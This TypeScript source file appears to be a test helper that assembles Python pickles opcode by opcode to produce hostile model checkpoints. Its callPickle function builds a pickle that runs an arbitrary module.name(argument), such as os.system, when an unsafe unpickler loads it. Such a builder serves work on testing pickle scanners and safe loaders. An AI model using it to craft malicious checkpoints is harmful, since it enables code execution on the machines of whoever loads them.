/**
 * A pickle assembler for hostile checkpoints (protocol 2 opcodes): globals, strings, tuples,
 * REDUCE, dicts and persistent ids, enough to write both what torch.save writes and the classic
 * code-execution payloads.
 */

const ascii = (s: string) => Uint8Array.from(s, (c) => c.charCodeAt(0));

/** Builds a pickle opcode by opcode. */
export class PickleWriter {
  readonly #parts: Uint8Array[] = [Uint8Array.of(0x80, 2)];

  #op(...bytes: (number | Uint8Array)[]): this {
    for (const b of bytes) this.#parts.push(typeof b === 'number' ? Uint8Array.of(b) : b);
    return this;
  }

  /** GLOBAL `module.name` (the opcode a payload needs to reach `os.system`). */
  global(module: string, name: string): this {
    return this.#op(0x63, ascii(`${module}\n${name}\n`));
  }

  /** BINUNICODE. */
  string(text: string): this {
    const bytes = new TextEncoder().encode(text);
    return this.#op(0x58, new Uint8Array(Uint32Array.of(bytes.length).buffer), bytes);
  }

  /** BININT (32-bit signed). */
  int(value: number): this {
    return this.#op(0x4a, new Uint8Array(Int32Array.of(value).buffer));
  }

  /** LONG1 (little-endian two's complement). */
  long(value: bigint): this {
    const bytes: number[] = [];
    let v = value;
    do {
      bytes.push(Number(v & 0xffn));
      v >>= 8n;
    } while (v !== 0n && v !== -1n);
    if ((bytes[bytes.length - 1]! & 0x80) !== (value < 0n ? 0x80 : 0))
      bytes.push(value < 0n ? 0xff : 0);
    return this.#op(0x8a, bytes.length, Uint8Array.from(bytes));
  }

  /** STACK_GLOBAL (protocol 4): module and name are the two strings below. */
  stackGlobal(): this {
    return this.#op(0x93);
  }

  /** INST `module.name` applied to the items since the last MARK (protocol 0). */
  inst(module: string, name: string): this {
    return this.#op(0x69, ascii(`${module}\n${name}\n`));
  }

  /** EMPTY_LIST. */
  emptyList(): this {
    return this.#op(0x5d);
  }

  /** APPENDS from the last MARK. */
  appends(): this {
    return this.#op(0x65);
  }

  none(): this {
    return this.#op(0x4e);
  }
  bool(value: boolean): this {
    return this.#op(value ? 0x88 : 0x89);
  }
  mark(): this {
    return this.#op(0x28);
  }
  /** TUPLE from the last MARK. */
  tuple(): this {
    return this.#op(0x74);
  }
  /** TUPLE1 / TUPLE2 / TUPLE3. */
  tupleOf(n: 1 | 2 | 3): this {
    return this.#op(0x84 + n);
  }
  emptyTuple(): this {
    return this.#op(0x29);
  }
  emptyDict(): this {
    return this.#op(0x7d);
  }
  /** SETITEMS from the last MARK. */
  setItems(): this {
    return this.#op(0x75);
  }
  /** REDUCE: call the callable below the argument tuple. */
  reduce(): this {
    return this.#op(0x52);
  }
  /** BINPERSID. */
  persistentId(): this {
    return this.#op(0x51);
  }
  /** STOP, and the bytes. */
  stop(): Uint8Array {
    this.#op(0x2e);
    const out = new Uint8Array(this.#parts.reduce((n, p) => n + p.length, 0));
    this.#parts.reduce((at, p) => (out.set(p, at), at + p.length), 0);
    return out;
  }
}

/** A pickle calling `module.name(argument)` when loaded by an unsafe unpickler. */
export function callPickle(module: string, name: string, argument: string): Uint8Array {
  return new PickleWriter().global(module, name).string(argument).tupleOf(1).reduce().stop();
}
